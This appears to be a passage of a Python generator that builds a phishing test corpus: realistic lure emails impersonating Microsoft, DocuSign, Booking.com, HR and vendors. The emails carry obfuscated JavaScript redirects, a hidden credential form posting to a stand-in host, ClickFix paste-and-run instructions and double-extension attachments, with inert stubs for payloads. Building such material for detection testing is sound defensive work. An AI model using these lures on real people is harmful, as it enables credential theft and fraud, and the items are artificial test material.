# ruff: noqa: E501
"""Phishing and fraud of 2024-2026 for the blind set: one function per message, written as the
attackers write (lookalike or reserved attacker domains, abused legitimate hosts with invented
paths; every "payload" is an inert stub)."""

from __future__ import annotations

import base64

from fresh_common import (
    build,
    encrypted_zip,
    html_qr_table,
    iso_bytes,
    lnk_stub,
    mx_in,
    one_stub,
    pdf,
    qr_png,
    safelink,
    sendgrid,
    token,
    vhd_stub,
    zip_of,
)

EMAIL = "alex.morgan@example.com"
EMAIL_B64 = base64.b64encode(EMAIL.encode()).decode()


def _page(body: str, font: str = "Segoe UI,Arial,sans-serif") -> str:
    return (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            f'<body><div style="font-family:{font};font-size:14px;color:#323130;max-width:600px">{body}</div></body></html>')


def _button(href: str, label: str, color: str = "#0078d4") -> str:
    return (f'<table cellpadding="0" cellspacing="0"><tr><td style="background:{color};padding:10px 24px">'
            f'<a href="{href}" style="color:#ffffff;text-decoration:none;font-weight:600">{label}</a></td></tr></table>')


def p01_aitm_workers_dev_share() -> None:
    link = f"https://view-doc-secure.hollis-reed-share.workers.dev/?e={EMAIL_B64}"
    html = _page('<p style="font-size:20px">Alicia Hollis shared a file with you</p>'
                 '<p><img src="https://res.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/20/pdf.png" width="20" alt=""> '
                 '<b>Settlement Statement - Example Corp (FINAL).pdf</b></p>'
                 '<p>Hi Alex, please review the final settlement statement ahead of Friday&#39;s call. Let me know if anything looks off.</p>'
                 + _button(link, "Open") +
                 '<p style="font-size:11px;color:#605e5c">This link will work for people in your organization and people with existing access.<br>'
                 'Hollis Reed LLP &middot; 1700 Lincoln St, Suite 2400, Denver, CO 80203</p>'
                 '<p style="font-size:11px;color:#605e5c"><img src="https://res.cdn.office.net/assets/mail/file-icon/png/microsoft_logo.png" width="70" alt="Microsoft"> Privacy Statement</p>')
    build("phish/01_aitm_share_workers_dev.eml", frm="Alicia Hollis <ahollis@hollisreed.example>", subject="Alicia Hollis shared \"Settlement Statement - Example Corp (FINAL)\" with you",
          date="Tue, 02 Dec 2025 15:41:09 +0000", msgid=f"<{token('p01', 20)}@hollisreed.example>",
          received=[mx_in("mail.hollisreed.example", "192.0.2.71", "Tue, 02 Dec 2025 15:41:12 +0000", "4dQx1b2Z8mz1Aa")],
          dkim_domain="hollisreed.example",
          text=f"Alicia Hollis shared a file with you\n\nSettlement Statement - Example Corp (FINAL).pdf\n\nHi Alex, please review the final settlement statement ahead of Friday's call.\n\nOpen: {link}\n",
          html=html, bstyle="outlook")


def p02_ome_encrypted_pages_dev() -> None:
    link = f"https://ome-securemessage-portal.pages.dev/#{EMAIL}"
    html = _page('<table width="100%" style="background:#0072c6;color:#fff"><tr><td style="padding:14px;font-size:18px">Encrypted message</td></tr></table>'
                 '<p><b>accounts@northwind-supply.example</b> has sent you a protected message.</p>'
                 '<p>To view your message, sign in with the account you received this message on.</p>'
                 + _button(link, "Read the message") +
                 '<p style="font-size:12px;color:#666">Message encryption by Microsoft Office 365. '
                 '<a href="https://go.microsoft.com/fwlink/?LinkId=623919">Learn about messages protected by Office 365 Message Encryption.</a><br>'
                 'Privacy Statement<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>')
    build("phish/02_ome_encrypted_pages_dev.eml", frm="\"accounts@northwind-supply.example via Microsoft 365\" <no-reply@northwind-supply.example>",
          subject="Encrypted: Remittance 11/30 - Example Corp", date="Wed, 03 Dec 2025 18:02:44 +0000", msgid=f"<{token('p02', 24)}@northwind-supply.example>",
          received=[mx_in("northwind-supply.example", "198.51.100.23", "Wed, 03 Dec 2025 18:02:47 +0000", "4dRmX04nT1z2Bb")],
          dkim_domain="northwind-supply.example", html=html, bstyle="outlook")


def p03_remittance_r2_dev() -> None:
    link = f"https://pub-{token('p03', 32, '0123456789abcdef')}.r2.dev/RemittanceAdvice_1209.html?em={EMAIL}"
    text = ("Hello,\n\nPlease find attached the remittance advice for payment of your outstanding invoices, released today via ACH.\n\n"
            f"View Remittance Advice (PDF, 184 KB): {link}\n\nPayment total: USD 48,916.20\nValue date: 12/09/2025\n\n"
            "Kind regards,\nAccounts Payable\nPinecrest Foods Distribution\n")
    html = _page('<p>Hello,</p><p>Please find attached the remittance advice for payment of your outstanding invoices, released today via ACH.</p>'
                 f'<p><a href="{link}"><img src="https://upload.wikimedia.org/wikipedia/commons/8/87/PDF_file_icon.svg" width="24" alt=""> RemittanceAdvice_1209.pdf</a> (184 KB)</p>'
                 '<p>Payment total: <b>USD 48,916.20</b><br>Value date: 12/09/2025</p><p>Kind regards,<br>Accounts Payable<br>Pinecrest Foods Distribution</p>')
    build("phish/03_remittance_r2_dev.eml", frm="Accounts Payable <ap@pinecrestfoods.example>", subject="Payment Remittance Advice - 12/09/2025 (ACH)",
          date="Tue, 09 Dec 2025 13:15:30 -0500", msgid=f"<{token('p03m', 30)}@pinecrestfoods.example>",
          received=[mx_in("mail.pinecrestfoods.example", "203.0.113.88", "Tue, 09 Dec 2025 18:15:33 +0000", "4dWq2s9kVbz3Cc")],
          dkim_domain="pinecrestfoods.example", text=text, html=html)


def p04_quota_firebaseapp() -> None:
    link = f"https://mailbox-quota-upgrade-7c21.firebaseapp.com/?login={EMAIL}"
    html = _page('<p style="font-size:18px;color:#a4262c"><b>example.com</b> Mailbox Storage Alert</p>'
                 f'<p>Dear {EMAIL},</p><p>Your mailbox has exceeded its storage limit. You may not be able to send or receive new email until you increase your storage.</p>'
                 '<table width="300" style="border:1px solid #ccc"><tr><td style="background:#d13438;width:99%;height:12px"></td><td style="width:1%"></td></tr></table>'
                 '<p style="font-size:12px">49.6 GB / 50 GB (99%)</p>'
                 '<p>13 incoming messages are on hold. Upgrade your storage for free to release pending messages.</p>'
                 + _button(link, "Increase Storage") +
                 '<p style="font-size:11px;color:#888">This notification was sent to ' + EMAIL + ' by example.com Mail Server Administrator. &copy; 2025 Microsoft</p>')
    build("phish/04_mailbox_quota_firebaseapp.eml", frm="example.com Admin <postmaster@mailadmin-notify.test>", subject=f"Mailbox Storage Full - {EMAIL} - 13 messages on hold",
          date="Thu, 11 Dec 2025 04:22:17 +0000", msgid=f"<{token('p04', 18)}@mailadmin-notify.test>",
          received=[mx_in("vps-4471.mailadmin-notify.test", "203.0.113.140", "Thu, 11 Dec 2025 04:22:19 +0000", "4dYc0q1mWcz4Dd")],
          html=html, html_cte="base64")


def p05_teams_missed_netlify() -> None:
    link = "https://teams-chat-notify.netlify.app/conversations/19:meeting_unread?tenant=examplecorp"
    html = _page('<p><img src="https://statics.teams.cdn.office.net/evergreen-assets/icons/microsoft_teams_logo_refresh.png" width="28" alt=""> <b>Microsoft Teams</b></p>'
                 '<p style="font-size:18px">You have 3 unread messages from Dana Whitfield</p>'
                 '<table style="background:#f5f5f5;padding:10px;width:100%"><tr><td><b>Dana Whitfield</b> 9:12 AM<br>Alex, need your eyes on this before the board call</td></tr>'
                 '<tr><td><b>Dana Whitfield</b> 9:13 AM<br>Sent you the doc in chat</td></tr><tr><td><b>Dana Whitfield</b> 9:31 AM<br>???</td></tr></table>'
                 + _button(link, "Reply in Teams", "#5b5fc7") +
                 '<p style="font-size:11px;color:#777">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052. You are receiving this because you have notifications enabled.</p>')
    build("phish/05_teams_unread_netlify.eml", frm="Microsoft Teams <noreply@teams-mail-notification.test>", subject="You have 3 unread messages from Dana Whitfield",
          date="Mon, 15 Dec 2025 16:33:50 +0000", msgid=f"<{token('p05', 28)}@teams-mail-notification.test>",
          received=[mx_in("smtp.teams-mail-notification.test", "198.51.100.201", "Mon, 15 Dec 2025 16:33:52 +0000", "4dcP3x6nXdz5Ee")],
          dkim_domain="teams-mail-notification.test", html=html)


def p06_salary_adjustment_vercel() -> None:
    link = f"https://examplecorp-hr-compensation.vercel.app/review?user={EMAIL}"
    text = ("Dear Alex,\n\nAs part of our annual compensation review, your salary adjustment for 2026 has been approved and will take effect from "
            "the January 15 payroll.\n\nPlease review and acknowledge your updated compensation letter and the revised Employee Handbook (v2026.1) "
            f"by end of day Friday:\n\n{link}\n\nFailure to acknowledge may delay the adjustment to the following pay cycle.\n\n"
            "Regards,\nHuman Resources\nExample Corp\n\nThis message is confidential and intended solely for the addressee.\n")
    build("phish/06_hr_salary_adjustment_vercel.eml", frm="Human Resources <hr@examplecorp-peoplehub.test>", subject="2026 Salary Adjustment & Updated Handbook - Acknowledgement Required",
          date="Wed, 07 Jan 2026 08:05:12 -0700", msgid=f"<{token('p06', 26)}@examplecorp-peoplehub.test>",
          received=[mx_in("mail.examplecorp-peoplehub.test", "192.0.2.160", "Wed, 07 Jan 2026 15:05:14 +0000", "4dm2Kq1pYfz6Ff")],
          dkim_domain="examplecorp-peoplehub.test", text=text, text_cte="7bit")


def p07_bing_open_redirect() -> None:
    target = base64.urlsafe_b64encode(f"https://docs-invoice-view.example/inv/88213?r={EMAIL_B64}".encode()).decode().rstrip("=")
    link = f"https://www.bing.com/ck/a?!&&p={token('p07', 64, '0123456789abcdef')}JmltdHM9MTczNjU1MzYwMA&ptn=3&ver=2&hsh=4&fclid={token('p07f', 8, '0123456789abcdef')}&u=a1{target}&ntb=1"
    html = _page('<p>Good afternoon,</p><p>Attached is the revised invoice #88213 with the corrected PO reference. Could you please confirm receipt and advise on the payment date?</p>'
                 f'<p><a href="{link}">INV-88213_rev2.pdf</a></p><p>Thank you,<br>Megan Foster<br>Billing Specialist<br>Summit Ridge Logistics</p>')
    build("phish/07_invoice_bing_redirect.eml", frm="Megan Foster <mfoster@summitridgelogistics.example>", subject="RE: Invoice 88213 - revised",
          date="Mon, 12 Jan 2026 13:48:03 -0600", msgid=f"<{token('p07m', 30)}@summitridgelogistics.example>",
          received=[mx_in("mail.summitridgelogistics.example", "203.0.113.19", "Mon, 12 Jan 2026 19:48:06 +0000", "4drB5m2qZgz7Gg")],
          dkim_domain="summitridgelogistics.example", html=html, bstyle="outlook")


def p08_sendgrid_redirect_m365_payment() -> None:
    target = f"https://billing-m365-renew.example/account/update?id={token('p08t', 10)}"
    link = sendgrid(target, "p08", host="u5520913.ct.sendgrid.net")
    html = _page('<p><img src="https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b" width="108" alt="Microsoft"></p>'
                 '<h2 style="font-weight:600">Your subscription payment didn&#39;t go through</h2>'
                 '<p>We couldn&#39;t charge your payment method for <b>Microsoft 365 Business Standard</b> (25 licenses). To avoid interruption to Outlook, Teams and OneDrive, update your billing information within 48 hours.</p>'
                 '<table style="font-size:13px"><tr><td>Amount due</td><td>$312.50</td></tr><tr><td>Attempted</td><td>January 19, 2026</td></tr></table><br>'
                 + _button(link, "Update payment method") +
                 '<p style="font-size:11px;color:#666">Microsoft respects your privacy. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA</p>')
    build("phish/08_m365_payment_sendgrid_redirect.eml", frm="Microsoft 365 <billing@m365-accountservices.test>", subject="Action needed: Microsoft 365 payment declined",
          date="Mon, 19 Jan 2026 10:27:38 +0000", msgid=f"<{token('p08m', 22)}@geopod-ismtpd-12>",
          return_path=f"bounces+5520913-{token('p08b', 4, '0123456789abcdef')}-alex.morgan=example.com@em9921.m365-accountservices.test",
          received=[mx_in("o16.ptr2291.m365-accountservices.test", "149.72.41.16", "Mon, 19 Jan 2026 10:27:40 +0000", "4dwT7r0sAhz8Hh")],
          dkim_domain="m365-accountservices.test", html=html, bstyle="esp")


def p09_clickfix_booking() -> None:
    link = f"https://extranet-guestreview.example/reservation/5821934407?hotel=examplecorp&t={token('p09', 12)}"
    html = _page('<p><b style="color:#003580;font-size:20px">Booking.com</b> <span style="color:#666">Partner Hub</span></p>'
                 '<p>Dear Partner,</p><p>A guest has submitted a complaint regarding reservation <b>5821934407</b> (check-in 14 Feb 2026). '
                 'The guest reports unauthorised charges and states they were refused check-in.</p>'
                 '<p>Please review the guest message and respond within <b>24 hours</b>; unanswered complaints may affect your property ranking.</p>'
                 '<table style="border:1px solid #ccc;padding:12px;background:#f9f9f9"><tr><td style="width:28px;height:28px;border:2px solid #999"></td>'
                 f'<td style="padding-left:10px"><a href="{link}" style="color:#333;text-decoration:none">Verify you are human to view the guest message</a><br>'
                 '<span style="font-size:10px;color:#999">Protected by Cloudflare &middot; Privacy &middot; Terms</span></td></tr></table>'
                 '<p style="font-size:12px;color:#555">If the verification window does not load, press <b>Windows + R</b>, then <b>Ctrl + V</b> and <b>Enter</b> to complete the check.</p>'
                 '<p>Kind regards,<br>Booking.com Customer Service</p>')
    build("phish/09_clickfix_booking_complaint.eml", frm="Booking.com Partner Support <noreply@partner-booking-support.test>", subject="Guest complaint - Reservation 5821934407 - response required",
          date="Thu, 05 Feb 2026 07:51:26 +0100", msgid=f"<{token('p09m', 24)}@partner-booking-support.test>",
          received=[mx_in("mx.partner-booking-support.test", "198.51.100.77", "Thu, 05 Feb 2026 06:51:28 +0000", "4f1Sd25uBjz9Jj")],
          html=html)


def p10_svg_voicemail() -> None:
    target = "https://voice-msg-portal.example/play/?vm=2261"
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120">\n'
           '<rect width="420" height="120" fill="#f3f2f1"/><text x="20" y="50" font-family="Segoe UI" font-size="18">Voice Message (00:42)</text>\n'
           '<text x="20" y="80" font-family="Segoe UI" font-size="13" fill="#605e5c">Loading secure player...</text>\n'
           '<script type="text/javascript"><![CDATA[\n'
           f'var _e = "{EMAIL_B64}";\nvar _u = atob("{base64.b64encode(target.encode()).decode()}");\n'
           'window.location.href = _u + "&d=" + _e;\n]]></script>\n</svg>\n')
    text = ("You received a new voice message.\n\nFrom: +1 (720) 555-0193\nReceived: Tuesday, February 10, 2026 11:04 AM\nLength: 00:42\n\n"
            "The voice message is attached. Open the attachment to play.\n\nMicrosoft Teams Voicemail\n")
    build("phish/10_voicemail_svg_js.eml", frm="Voicemail Service <voicemail@vm-notify-center.test>", subject="New Voicemail from +1 (720) 555-0193 [00:42]",
          date="Tue, 10 Feb 2026 11:06:40 -0700", msgid=f"<{token('p10m', 26)}@vm-notify-center.test>",
          received=[mx_in("vm-notify-center.test", "203.0.113.201", "Tue, 10 Feb 2026 18:06:43 +0000", "4f5Ym61wCkz1Kk")],
          text=text, text_cte="7bit", attachments=[(svg.encode(), "image/svg+xml", "VM_Playback_0042.svg")])


def p11_html_attachment_b64_login() -> None:
    form = ('<html><head><title>Sign in to your account</title></head><body style="font-family:Segoe UI;background:#f2f2f2">'
            '<div style="width:440px;margin:80px auto;background:#fff;padding:44px"><img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108">'
            '<p style="font-size:24px">Enter password</p><p>Because you\'re accessing sensitive info, you need to verify your password.</p>'
            f'<form method="POST" action="https://cdn-auth-sync.test/api/v2/next.php"><input type="hidden" name="login" value="{EMAIL}">'
            f'<p>{EMAIL}</p><input type="password" name="passwd" placeholder="Password" style="width:100%"><br><br>'
            '<input type="submit" value="Sign in" style="background:#0067b8;color:#fff;border:0;padding:8px 32px"></form></div></body></html>')
    att = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Payment Confirmation</title></head><body>\n<script>\n'
           f'document.write(atob("{base64.b64encode(form.encode()).decode()}"));\n</script>\n</body></html>\n')
    text = ("Hi,\n\nPlease see attached the payment confirmation for the wire sent this morning. Kindly confirm once received on your side.\n\n"
            "Best regards,\nLaura Chen\nFinance Department\n")
    build("phish/11_html_attachment_b64_login.eml", frm="Laura Chen <laura.chen@harborlinemarine.example>", subject="Payment Confirmation - Wire Transfer Ref#TRX-2026-0217",
          date="Tue, 17 Feb 2026 09:12:55 -0500", msgid=f"<{token('p11m', 30)}@harborlinemarine.example>",
          received=[mx_in("harborlinemarine.example", "192.0.2.45", "Tue, 17 Feb 2026 14:12:58 +0000", "4fB4Tz3xDlz2Ll")],
          dkim_domain="harborlinemarine.example", text=text, attachments=[(att.encode(), "text/html", "Payment_Confirmation_TRX-2026-0217.html")])


def p12_html_attachment_charcode() -> None:
    target = f"https://secure-ach-portal.example/view/?doc=ACH0224#{EMAIL}"
    codes = ",".join(str(ord(c)) for c in target)
    att = ('<html>\n<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n<body>\n'
           '<p style="font-family:Arial">Loading document, please wait...</p>\n<script>\n'
           f"var _0x4f2a=[{codes}];\nvar _0xb1=''; for (var i=0;i<_0x4f2a.length;i++){{_0xb1+=String.fromCharCode(_0x4f2a[i]);}}\n"
           "setTimeout(function(){ window['loc'+'ation']['rep'+'lace'](_0xb1); }, 800);\n</script>\n</body>\n</html>\n")
    html = _page('<p>Hello Alex,</p><p>An ACH payment of <b>$27,480.00</b> has been scheduled to your account. The remittance details are attached for your records.</p>'
                 '<p>Thank you,<br>Treasury Services</p>')
    build("phish/12_ach_html_attachment_charcode.eml", frm="Treasury Services <treasury@ach-remit-notice.test>", subject="ACH Payment Notification - Remittance 02/24/2026",
          date="Tue, 24 Feb 2026 12:30:04 -0600", msgid=f"<{token('p12m', 20)}@ach-remit-notice.test>",
          received=[mx_in("ach-remit-notice.test", "198.51.100.145", "Tue, 24 Feb 2026 18:30:06 +0000", "4fGk0n4yEmz3Mm")],
          html=html, attachments=[(att.encode(), "text/html", "ACH_Remittance_0224.shtml")])


def p13_zip_password_lnk() -> None:
    z = encrypted_zip([("Invoice_INV-20417_overdue.pdf.lnk", lnk_stub(r"..\..\..\Windows\System32\stub.exe"))], "2041")
    text = ("Good morning,\n\nOur records show invoice INV-20417 ($14,260.00) is now 45 days overdue. Please review the attached statement and "
            "arrange payment this week to avoid a hold on your account.\n\nThe file is password protected for security.\nPassword: 2041\n\n"
            "Regards,\nCollections Team\nNorthgate Industrial Supply\n")
    build("phish/13_zip_password_lnk.eml", frm="Collections <collections@northgate-industrial.test>", subject="OVERDUE: Invoice INV-20417 - Final Notice",
          date="Mon, 02 Mar 2026 08:44:19 -0500", msgid=f"<{token('p13m', 28)}@northgate-industrial.test>",
          received=[mx_in("northgate-industrial.test", "203.0.113.77", "Mon, 02 Mar 2026 13:44:22 +0000", "4fLq5s7zFnz4Nn")],
          text=text, text_cte="7bit", attachments=[(z, "application/zip", "INV-20417.zip")])


def p14_de_zip_password_js() -> None:
    js = (b"// Rechnung_2026_03_1147.js - inert stand-in for a JScript dropper used by the test set; it does nothing\r\n"
          b"var n = [82,101,99,104,110,117,110,103];\r\nvar s = '';\r\nfor (var i = 0; i < n.length; i++) { s += String.fromCharCode(n[i]); }\r\n")
    z = encrypted_zip([("Rechnung_2026_03_1147.js", js)], "Re1147")
    text = ("Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unsere Rechnung Nr. 2026-03-1147 über 3.842,17 EUR für die Lieferung vom 04.03.2026.\n\n"
            "Aus Datenschutzgründen ist das Dokument passwortgeschützt.\nPasswort: Re1147\n\n"
            "Bitte begleichen Sie den Betrag innerhalb von 7 Tagen.\n\nMit freundlichen Grüßen\nSabine Krüger\nBuchhaltung\nKrüger & Söhne GmbH\n")
    build("phish/14_de_rechnung_zip_password_js.eml", frm="Sabine Krüger <s.krueger@krueger-soehne.example>", subject="Rechnung Nr. 2026-03-1147",
          date="Mon, 09 Mar 2026 10:03:51 +0100", msgid=f"<{token('p14m', 30)}@krueger-soehne.example>",
          received=[mx_in("mail.krueger-soehne.example", "192.0.2.212", "Mon, 09 Mar 2026 09:03:54 +0000", "4fRb3k8AGpz5Pp")],
          text=text, attachments=[(z, "application/zip", "Rechnung_2026-03-1147.zip")])


def p15_fax_zip_vbs() -> None:
    vbs = (b"' Fax_Document.pdf.vbs - inert stand-in for a VBScript downloader used by the test set\r\n"
           b"Dim msg\r\nmsg = \"stub\"\r\n")
    z = zip_of([("Fax_Document_3pages.pdf.vbs", vbs)])
    html = _page('<table style="border:1px solid #ccc;width:100%"><tr><td style="background:#333;color:#fff;padding:8px"><b>eFax</b> &middot; Incoming Fax</td></tr>'
                 '<tr><td style="padding:12px">You have received a 3 page fax at 2026-03-16 02:41:17 PM.<br><br>'
                 '* The reference number for this fax is den1_did41-1773694877-3035550172-58.<br>* Pages: 3<br>* Caller ID: 303-555-0172<br><br>'
                 'Please open the attached document to view your fax.</td></tr></table>'
                 '<p style="font-size:11px;color:#777">Thank you for using the eFax service!</p>')
    build("phish/15_fax_zip_vbs.eml", frm="eFax <message@efax-delivery.test>", subject="eFax message from \"303-555-0172\" - 3 page(s), Caller-ID: 303-555-0172",
          date="Mon, 16 Mar 2026 14:42:03 -0600", msgid=f"<{token('p15m', 22)}@efax-delivery.test>",
          received=[mx_in("efax-delivery.test", "198.51.100.9", "Mon, 16 Mar 2026 20:42:05 +0000", "4fXm6q9BHqz6Qq")],
          html=html, attachments=[(z, "application/x-zip-compressed", "Fax_den1_1773694877.zip")])


def p16_onenote_attachment() -> None:
    text = ("Hello,\n\nAttached are the shipping documents for container MSKU 7731904 (B/L, packing list, commercial invoice) in one OneNote file. "
            "Double-click the attachment icon inside the document to view.\n\nPlease confirm the ETA for customs clearance.\n\n"
            "Thanks & regards,\nKevin Zhao\nOcean Export Dept.\nPacificBridge Freight\n")
    build("phish/16_onenote_shipping_docs.eml", frm="Kevin Zhao <kevin.zhao@pacificbridgefreight.example>", subject="Shipping Documents - MSKU7731904 - ETA 03/28",
          date="Fri, 20 Mar 2026 02:17:44 +0800", msgid=f"<{token('p16m', 26)}@pacificbridgefreight.example>",
          received=[mx_in("smtp.pacificbridgefreight.example", "203.0.113.230", "Thu, 19 Mar 2026 18:17:47 +0000", "4fb0Sr1CJrz7Rr")],
          text=text, attachments=[(one_stub("Shipping Documents MSKU7731904"), "application/octet-stream", "Shipping_Docs_MSKU7731904.one")])


def p17_vhd_order() -> None:
    html = _page('<p>Dear Customer,</p><p>Thank you for your order. Your order <b>#PO-66120</b> has been confirmed and will be dispatched within 2 business days.</p>'
                 '<p>The order confirmation and pro-forma invoice are attached. Please review and let us know of any discrepancies.</p>'
                 '<p>Best regards,<br>Sales Department<br>Alpine Office Wholesale</p>')
    build("phish/17_order_confirmation_vhd.eml", frm="Sales Department <sales@alpine-office-wholesale.test>", subject="Order Confirmation #PO-66120",
          date="Wed, 25 Mar 2026 11:58:10 +0000", msgid=f"<{token('p17m', 24)}@alpine-office-wholesale.test>",
          received=[mx_in("alpine-office-wholesale.test", "192.0.2.199", "Wed, 25 Mar 2026 11:58:13 +0000", "4ff7Wv2DKsz8Ss")],
          html=html, attachments=[(vhd_stub(), "application/octet-stream", "Order_PO-66120.vhd")])


def p18_reply_chain_hijack() -> None:
    link = "https://greenfieldgardencenter.example/wp-content/uploads/2026/04/docs/Q1_freight_reconciliation.zip"
    quoted = ("From: Alex Morgan <alex.morgan@example.com>\nSent: Monday, March 30, 2026 10:21 AM\nTo: Tom Becker <tbecker@cascadefreight.example>\n"
              "Subject: Q1 freight reconciliation\n\nHi Tom,\n\nFinance flagged three shipments in Q1 where the fuel surcharge doesn't match the rate card "
              "(BOL 448120, 448297, 449003). Can you send over your reconciliation so we can close the quarter?\n\nThanks,\nAlex\n")
    text = (f"Hi Alex,\n\nApologies for the delay. Please find the reconciliation and supporting BOLs here:\n\n{link}\n\n"
            "Let me know if you need anything else.\n\nTom\n\n" + "\n".join("> " + x if x else ">" for x in quoted.split("\n")))
    build("phish/18_reply_chain_hijack_zip_link.eml", frm="Tom Becker <tbecker@cascadefreight.example>", subject="RE: Q1 freight reconciliation",
          date="Thu, 02 Apr 2026 16:09:37 -0700", msgid=f"<{token('p18m', 30)}@cascadefreight.example>",
          received=[mx_in("mail.cascadefreight.example", "198.51.100.58", "Thu, 02 Apr 2026 23:09:40 +0000", "4fmE0x3ELtz9Tt")],
          dkim_domain="cascadefreight.example",
          extra=[("In-Reply-To", "<BN8PR11MB3650B7E8D9C0A1B2C3D4E5F6A7B8C@BN8PR11MB3650.namprd11.prod.outlook.com>"),
                 ("References", "<BN8PR11MB3650B7E8D9C0A1B2C3D4E5F6A7B8C@BN8PR11MB3650.namprd11.prod.outlook.com>")],
          text=text, text_cte="7bit")


def p19_docusign_webflow() -> None:
    link = f"https://secure-docreview-portal.webflow.io/envelope?id={token('p19', 8, '0123456789ABCDEF')}-{token('p19b', 4, '0123456789ABCDEF')}"
    html = _page('<table width="100%" style="background:#1e4ca1;color:#fff"><tr><td style="padding:24px;text-align:center">'
                 '<p style="font-size:16px">Dana Whitfield sent you a document to review and sign.</p>'
                 f'<a href="{link}" style="background:#ffc423;color:#000;padding:10px 20px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr></table>'
                 '<p><b>Dana Whitfield</b><br>Please review and sign: <b>Example Corp - Executive Bonus Allocation FY26.pdf</b></p>'
                 '<p style="font-size:12px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p>'
                 '<p style="font-size:12px;color:#666"><b>About DocuSign</b><br>Sign documents electronically in just minutes. It&#39;s safe, secure, and legally binding.</p>')
    build("phish/19_docusign_lookalike_webflow.eml", frm="\"Dana Whitfield via DocuSign\" <dse@esign-envelope-mail.test>", subject="Dana Whitfield sent you \"Executive Bonus Allocation FY26\" to review and sign",
          date="Wed, 08 Apr 2026 09:20:45 -0600", msgid=f"<{token('p19m', 28)}@esign-envelope-mail.test>",
          received=[mx_in("esign-envelope-mail.test", "203.0.113.52", "Wed, 08 Apr 2026 15:20:47 +0000", "4frS3z4FMvz1Uu")],
          dkim_domain="esign-envelope-mail.test", html=html)


def p20_adobe_sign_azure_blob() -> None:
    link = f"https://acrobatsigndocs{token('p20', 6, '0123456789')}.blob.core.windows.net/$web/agreement.html?u={EMAIL}"
    html = _page('<p style="color:#eb1000;font-size:18px;font-weight:bold">Adobe Acrobat Sign</p>'
                 '<p>Legal Department has sent you <b>Amended_NDA_ExampleCorp.pdf</b> to review and sign.</p>'
                 f'<p><a href="{link}" style="background:#1473e6;color:#fff;padding:10px 24px;border-radius:16px;text-decoration:none">Review and sign</a></p>'
                 '<p style="font-size:12px;color:#777">After you sign, all parties will receive a final PDF copy by email.<br>&copy; 2026 Adobe. All rights reserved.</p>')
    build("phish/20_adobe_sign_azure_blob.eml", frm="Adobe Acrobat Sign <adobesign@documents-esign.test>", subject="Please sign: Amended_NDA_ExampleCorp.pdf",
          date="Tue, 14 Apr 2026 14:33:02 +0000", msgid=f"<{token('p20m', 24)}@documents-esign.test>",
          received=[mx_in("documents-esign.test", "198.51.100.99", "Tue, 14 Apr 2026 14:33:05 +0000", "4fwd0B5GNwz2Vv")],
          html=html)


def p21_compromised_vendor_canva_invoice() -> None:
    link = f"https://www.canva.com/design/DAG{token('p21', 8)}/{token('p21b', 22)}/view?utm_content=DAG&utm_campaign=designshare&utm_medium=link&utm_source=viewer"
    text = ("Hi,\n\nCoastal HVAC Services has shared an invoice document with you for review.\n\n"
            f"VIEW SHARED DOCUMENT: {link}\n\nInvoice #: CHV-30917\nAmount: $9,850.00\nDue: Upon receipt\n\n"
            "Thank you for your business.\n\nDebbie Salas\nOffice Manager\nCoastal HVAC Services\n(619) 555-0114\n")
    build("phish/21_compromised_vendor_canva_invoice.eml", frm="Debbie Salas <debbie@coastalhvac.example>", subject="Coastal HVAC Services shared an invoice with you",
          date="Mon, 20 Apr 2026 12:07:19 -0700", msgid=f"<{token('p21m', 30)}@coastalhvac.example>",
          received=[mx_in("mail.coastalhvac.example", "192.0.2.133", "Mon, 20 Apr 2026 19:07:22 +0000", "4g1Kq76HPxz3Ww")],
          dkim_domain="coastalhvac.example", text=text, text_cte="7bit")


def p22_qr_mfa_inline_png() -> None:
    target = f"https://mfa-reenroll.examplecorp-sso.test/authenticator/setup?u={EMAIL_B64}"
    html = _page('<p style="font-size:18px;font-weight:600">Microsoft Authenticator: re-enrolment required</p>'
                 '<p>Hello Alex,</p><p>As part of the upcoming security baseline update, all staff must re-register Microsoft Authenticator by <b>Friday, May 1</b>. '
                 'Accounts not re-registered will be signed out of Outlook and Teams.</p>'
                 '<p>Scan the QR code below with your phone camera to start:</p>'
                 '<p><img src="cid:mfa-qr@examplecorp" width="200" height="200" alt="QR"></p>'
                 '<p style="font-size:12px;color:#666">This QR code expires in 24 hours. IT Service Desk &middot; Example Corp</p>')
    build("phish/22_qr_mfa_reenrol_png.eml", frm="IT Service Desk <servicedesk@examplecorp-it.test>", subject="ACTION REQUIRED: Re-enrol Microsoft Authenticator before 05/01",
          date="Tue, 28 Apr 2026 08:15:40 -0600", msgid=f"<{token('p22m', 26)}@examplecorp-it.test>",
          received=[mx_in("examplecorp-it.test", "203.0.113.171", "Tue, 28 Apr 2026 14:15:43 +0000", "4g7Xm08JQyz4Xx")],
          html=html, html_cte="base64", related=[(qr_png(target), "mfa-qr@examplecorp", "image/png")])


def p23_qr_html_table_benefits() -> None:
    target = f"https://benefits-enroll.hr-examplecorp.test/open-enrolment?e={EMAIL_B64}"
    html = _page('<p style="font-size:18px;font-weight:600">2026 Benefits Open Enrolment closes Friday</p>'
                 '<p>Alex Morgan,</p><p>Your benefits elections for the 2026-27 plan year have not been confirmed. To avoid losing coverage, complete your enrolment from your mobile device.</p>'
                 '<p>Scan with your phone camera:</p>' + html_qr_table(target, 3) +
                 '<p style="font-size:12px;color:#666">Reference: OE-2026-' + token("p23r", 6, "0123456789") + '<br>Human Resources &middot; Benefits Administration</p>')
    build("phish/23_qr_html_table_benefits.eml", frm="Benefits Administration <benefits@hr-examplecorp.test>", subject="Open Enrolment: your 2026 elections are incomplete",
          date="Wed, 06 May 2026 07:40:11 -0600", msgid=f"<{token('p23m', 26)}@hr-examplecorp.test>",
